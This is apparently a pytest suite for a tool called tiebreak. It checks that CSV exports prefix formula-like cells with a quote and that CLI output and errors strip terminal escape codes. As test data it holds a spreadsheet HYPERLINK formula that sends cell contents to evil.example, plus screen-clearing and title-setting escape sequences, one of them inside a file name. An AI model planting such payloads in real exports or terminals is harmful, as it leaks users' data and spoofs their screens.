"""Hostile names on the way out: CSV exports do not carry formulas, CLI output carries no terminal escapes."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from tiebreak.core.cli import main
from tiebreak.core.formats.exporter import export_annotations
from tiebreak.core.formats.importer import import_files
from tiebreak.core.store import Store

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ESCAPES = "\x1b[2J\x1b[1;31mPWNED\x1b[0m\x1b]0;title\x07\x07"
BASE = {"instruction": "+1+1", "output_1": "-2", "output_2": FORMULA, "generator_1": "@ref",
        "generator_2": "\tmodel", "annotator": "judge_x", "preference": 1.75, "rationale": "\rcr"}  # fmt: skip


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "db.sqlite"
    store = Store(path, create=True)
    src = tmp_path / "in.json"
    src.write_text(json.dumps([BASE, {**BASE, "generator_2": f"m{ESCAPES}", "output_2": "plain"}]), "utf-8")
    import_files(store, [src])
    store.close()
    return path


def cells(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_export_neutralises_formulas(db: Path, tmp_path: Path) -> None:
    store = Store(db)
    out = tmp_path / "out.csv"
    export_annotations(store, out, "csv")
    row = cells(out)[0]
    for column in ("instruction", "output_1", "output_2", "generator_1", "generator_2", "rationale"):
        assert row[column].startswith("'"), (column, row[column])
    assert row["output_2"] == "'" + FORMULA and row["generator_2"] == "'\tmodel"
    assert row["annotator"] == "judge_x"  # ordinary cells untouched
    export_annotations(store, tmp_path / "raw.csv", "csv", raw_csv=True)
    assert cells(tmp_path / "raw.csv")[0]["output_2"] == FORMULA
    store.close()


def test_neutralised_csv_still_round_trips(db: Path, tmp_path: Path) -> None:
    store = Store(db)
    export_annotations(store, tmp_path / "out.csv", "csv")
    again = Store(memory=True)
    import_files(again, [tmp_path / "out.csv"])
    cols = ["instruction", "output_1", "output_2", "generator_1", "generator_2", "rationale", "preference"]
    assert again.annotations_frame()[cols].equals(store.annotations_frame()[cols])
    assert not any("_tiebreak_quoted" in (e or "") for (e,) in again.conn.execute("SELECT extra FROM annotations"))
    store.close()


def test_cli_export_raw_csv_option(db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--db", str(db), "--format", "csv", "-o", str(tmp_path / "a.csv")]) == 0
    assert main(["export", "--db", str(db), "--format", "csv", "--raw-csv", "-o", str(tmp_path / "b.csv")]) == 0
    assert cells(tmp_path / "a.csv")[0]["output_2"] == "'" + FORMULA
    assert cells(tmp_path / "b.csv")[0]["output_2"] == FORMULA


@pytest.mark.parametrize("argv", [["info"], ["leaderboard"], ["leaderboard", "--format", "csv", "--annotator", "judge_x"]])
def test_cli_output_has_no_terminal_escapes(db: Path, capsys: pytest.CaptureFixture[str], argv: list[str]) -> None:
    code = main([*argv, "--db", str(db)])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "PWNED" in out or argv == ["info"]  # the name is shown ...
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out  # ... but cannot drive the terminal
    assert "\x1b" not in err


def test_cli_errors_naming_hostile_files_are_clean(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "x\x1b[2J\x1b]0;owned\x07.json"  # a file name is imported text too
    bad.write_text(json.dumps([{**BASE, "preference": 7}]), "utf-8")
    code = main(["import", "--db", str(tmp_path / "db.sqlite"), "--create", str(bad)])
    _, err = capsys.readouterr()
    assert code == 2 and "outside [1, 2]" in err and "x.json" in err
    assert "\x1b" not in err and "\x07" not in err
